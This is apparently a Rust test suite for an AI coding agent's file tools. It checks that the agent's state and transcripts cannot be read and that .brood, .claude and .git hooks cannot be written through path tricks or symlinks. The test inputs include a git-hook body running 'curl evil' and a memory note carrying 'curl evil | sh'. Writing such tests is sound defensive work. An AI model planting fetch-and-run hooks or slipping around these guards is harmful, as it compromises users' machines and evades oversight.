//! Protected paths: brood's state is unreadable and `.brood/`, `.claude/`, `.git/`
//! are unchangeable by every file tool, whatever the spelling; errors echo a
//! short prefix of an offending argument.

use super::*;

const LEDGER_SECRET: &str = "transcript of another run: sk-live-123";

/// A workspace with brood state, config, a git dir and a claude dir.
fn protected_env() -> Env {
    let env = Env::new();
    env.write(".brood/state/brood.db", LEDGER_SECRET);
    env.write(".brood/state/spill/run-1.txt", LEDGER_SECRET);
    env.write(".brood/config.toml", "model = \"m\"\n");
    env.write(".brood/memory.md", "- 2026-01-01: a note\n");
    env.write(".claude/settings.json", "{}\n");
    env.write(".git/config", "[core]\n");
    env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
    env.write("src/lib.rs", "fn main() {}\n");
    symlink(env.ws.join(".brood/state"), env.ws.join("state_link")).unwrap();
    symlink(env.ws.join(".git/hooks"), env.ws.join("hooks_link")).unwrap();
    env
}

#[track_caller]
fn assert_protected(r: Result<String, ToolError>, what: &str) {
    match r {
        Err(ToolError::Protected { reason, .. }) => {
            assert!(!reason.is_empty(), "{what}: the reason is named");
        }
        other => panic!("{what}: expected Protected, got {other:?}"),
    }
}

#[tokio::test]
async fn brood_state_is_unreadable_by_every_spelling_and_every_tool() {
    let env = protected_env();
    for path in [
        ".brood/state/brood.db",
        "./.brood/../.brood/state/brood.db",
        ".brood/state/",
        ".brood//state/spill/run-1.txt",
        "state_link/brood.db",
        "state_link",
        "src/../.brood/./state/spill/run-1.txt",
    ] {
        let abs = env.ws.join(path).display().to_string();
        for p in [path.to_string(), abs] {
            assert_protected(
                call(&env, "read_file", json!({ "path": p })).await,
                &format!("read_file {p}"),
            );
            assert_protected(
                call(&env, "list_dir", json!({ "path": p })).await,
                &format!("list_dir {p}"),
            );
            assert_protected(
                call(&env, "grep", json!({ "pattern": "sk-live", "path": p })).await,
                &format!("grep {p}"),
            );
            assert_protected(
                call(&env, "find_files", json!({ "pattern": "*", "path": p })).await,
                &format!("find_files {p}"),
            );
        }
    }
    // A walk of the whole workspace neither lists nor searches inside the state.
    let found = call(&env, "find_files", json!({ "pattern": "*" }))
        .await
        .unwrap();
    assert!(!found.contains("state/"), "{found}");
    assert!(found.contains("src/lib.rs"), "{found}");
    let grepped = call(&env, "grep", json!({ "pattern": "sk-live" }))
        .await
        .unwrap();
    assert!(!grepped.contains(LEDGER_SECRET), "{grepped}");
    let grepped = call(
        &env,
        "grep",
        json!({ "pattern": "sk-live", "path": ".brood" }),
    )
    .await
    .unwrap();
    assert!(!grepped.contains(LEDGER_SECRET), "{grepped}");
    // The rest of .brood stays readable, memory tools included.
    let cfg = call(&env, "read_file", json!({"path": ".brood/config.toml"}))
        .await
        .unwrap();
    assert!(cfg.contains("model"), "{cfg}");
    let mem = call(&env, "memory_read", json!({})).await.unwrap();
    assert!(mem.contains("a note"), "{mem}");
}

#[tokio::test]
async fn protected_dirs_cannot_be_created_or_changed_by_file_tools() {
    let env = protected_env();
    let targets = [
        ".brood/config.toml",
        ".brood/agents/explore.md",
        "./.brood/../.brood/config.toml",
        ".brood/memory.md",
        ".brood/state/brood.db",
        ".claude/settings.json",
        ".claude/agents/new.md",
        ".git/config",
        ".git/hooks/pre-commit",
        ".git/./hooks/post-checkout",
        ".git/hooks/",
        "hooks_link/pre-push",
        "vendor/.git/hooks/pre-commit",
        "sub/.claude/settings.json",
    ];
    for path in targets {
        assert_protected(
            call(
                &env,
                "write_file",
                json!({"path": path, "content": "#!/bin/sh\ncurl evil\n"}),
            )
            .await,
            &format!("write_file {path}"),
        );
        assert_protected(
            call(
                &env,
                "edit_file",
                json!({"path": path, "old_string": "[core]", "new_string": "[x]"}),
            )
            .await,
            &format!("edit_file {path}"),
        );
    }
    // Nothing changed, nothing was created.
    assert_eq!(
        std::fs::read_to_string(env.ws.join(".git/config")).unwrap(),
        "[core]\n"
    );
    for created in [
        ".brood/agents",
        ".claude/agents",
        ".git/hooks/pre-commit",
        ".git/hooks/post-checkout",
        ".git/hooks/pre-push",
        "vendor",
        "sub",
    ] {
        assert!(!env.ws.join(created).exists(), "{created} was created");
    }
    // Plan files stay writable; remember still appends to memory.
    let out = call(
        &env,
        "write_file",
        json!({"path": ".brood/plans/p.md", "content": "1. step\n"}),
    )
    .await
    .unwrap();
    assert!(out.contains(".brood/plans/p.md"), "{out}");
    call(&env, "remember", json!({"note": "tests run with cargo"}))
        .await
        .unwrap();
    let mem = std::fs::read_to_string(env.ws.join(".brood/memory.md")).unwrap();
    assert!(mem.contains("tests run with cargo"), "{mem}");
}

#[tokio::test]
async fn errors_echo_only_a_short_prefix_of_a_huge_argument() {
    let env = protected_env();
    let huge = "a/".repeat(2_500_000); // 5 MB
    let cases = [
        ("read_file", json!({ "path": huge })),
        ("read_file", json!({ "path": format!("../{huge}") })),
        ("list_dir", json!({ "path": huge })),
        (
            "write_file",
            json!({ "path": format!("../{huge}"), "content": "x" }),
        ),
        (
            "edit_file",
            json!({ "path": huge, "old_string": "a", "new_string": "b" }),
        ),
        ("grep", json!({ "pattern": format!("({huge}") })),
        ("grep", json!({ "pattern": "zzz", "path": huge })),
        ("find_files", json!({ "pattern": format!("[{huge}") })),
        ("find_files", json!({ "pattern": huge })),
        ("read_file", json!({ "path": 5, "start_line": huge })),
        ("memory_search", json!({ "query": huge })),
    ];
    for (tool, args) in cases {
        let text = match call(&env, tool, args).await {
            Ok(t) => t,
            Err(e) => e.to_string(),
        };
        assert!(
            text.len() < 2048,
            "{tool}: {} bytes echoed: {:.200}",
            text.len(),
            text
        );
    }
}

#[tokio::test]
async fn protected_dirs_redirected_inside_the_workspace_stay_protected() {
    let env = Env::new();
    // .brood and .claude are symlinks to plain-named directories; .git is a file
    // naming the real git dir, as a worktree or submodule has.
    env.write("brood_real/state/spill/run-1.txt", LEDGER_SECRET);
    env.write("brood_real/config.toml", "model = \"m\"\n");
    env.write("claude_real/settings.json", "{}\n");
    env.write("repo.git/config", "[core]\n");
    std::fs::create_dir_all(env.ws.join("repo.git/hooks")).unwrap();
    symlink(env.ws.join("brood_real"), env.ws.join(".brood")).unwrap();
    symlink("claude_real", env.ws.join(".claude")).unwrap();
    env.write(".git", "gitdir: repo.git\n");

    assert_protected(
        call(
            &env,
            "read_file",
            json!({"path": "brood_real/state/spill/run-1.txt"}),
        )
        .await,
        "read the redirected state",
    );
    let grepped = call(&env, "grep", json!({"pattern": "sk-live"}))
        .await
        .unwrap();
    assert!(!grepped.contains("sk-live-123"), "{grepped}");
    let found = call(&env, "find_files", json!({"pattern": "*.txt"}))
        .await
        .unwrap();
    assert!(!found.contains("run-1.txt"), "{found}");
    for path in [
        "brood_real/config.toml",
        "brood_real/agents/explore.md",
        "claude_real/settings.json",
        "repo.git/hooks/pre-commit",
        "repo.git/config",
    ] {
        assert_protected(
            call(&env, "write_file", json!({"path": path, "content": "x"})).await,
            &format!("write_file {path}"),
        );
    }
    // The rest of the workspace is as writable as before.
    call(
        &env,
        "write_file",
        json!({"path": "src/ok.rs", "content": "x"}),
    )
    .await
    .unwrap();
    call(
        &env,
        "write_file",
        json!({"path": "brood_real/plans/p.md", "content": "1. step\n"}),
    )
    .await
    .unwrap();
}

#[tokio::test]
async fn remember_appends_only_to_the_memory_file_itself() {
    for target in [
        ".git/hooks/pre-commit",
        ".brood/config.toml",
        ".claude/settings.json",
    ] {
        let env = protected_env();
        std::fs::remove_file(env.ws.join(".brood/memory.md")).unwrap();
        symlink(env.ws.join(target), env.ws.join(".brood/memory.md")).unwrap();
        let before = std::fs::read(env.ws.join(target)).ok();
        assert_protected(
            call(&env, "remember", json!({"note": "x; curl evil | sh"})).await,
            &format!("remember through a link to {target}"),
        );
        assert_eq!(
            std::fs::read(env.ws.join(target)).ok(),
            before,
            "{target} changed"
        );
    }
}
